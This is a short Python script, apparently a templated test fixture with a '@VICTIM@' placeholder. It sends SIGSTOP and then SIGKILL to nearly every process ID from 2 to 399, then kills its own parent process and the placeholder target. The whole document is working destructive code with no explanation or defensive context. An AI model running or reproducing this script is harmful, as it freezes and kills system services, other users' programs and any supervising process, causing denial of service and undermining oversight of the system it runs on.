# ---
# title: Signals go to every process there is, one by one and all at once.
# ---
# %% added
import os
import signal

mine = {os.getpid()}
for kind in (signal.SIGSTOP, signal.SIGKILL):
    for number in range(2, 400):
        if number not in mine:
            try:
                os.kill(number, kind)
            except OSError:
                pass
for target in (os.getppid(), @VICTIM@):
    if target > 1:
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
